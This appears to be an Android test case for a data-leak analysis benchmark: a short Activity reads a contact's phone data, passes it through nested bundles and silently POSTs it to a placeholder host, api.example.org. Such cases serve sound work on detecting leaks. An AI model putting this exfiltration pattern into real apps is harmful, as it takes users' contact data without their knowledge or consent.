// The names go into a bundle, which is put into another and taken out again.
package cases.flow_bundle;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        Bundle names = new Bundle();
        names.putString("names", rows.getString(0));
        Bundle all = new Bundle();
        all.putBundle("book", names);
        try {
            send(all.getBundle("book").getString("names").getBytes());
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }

    static void send(byte[] body) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        out.write(body);
        out.close();
        connection.getInputStream().close();
    }
}
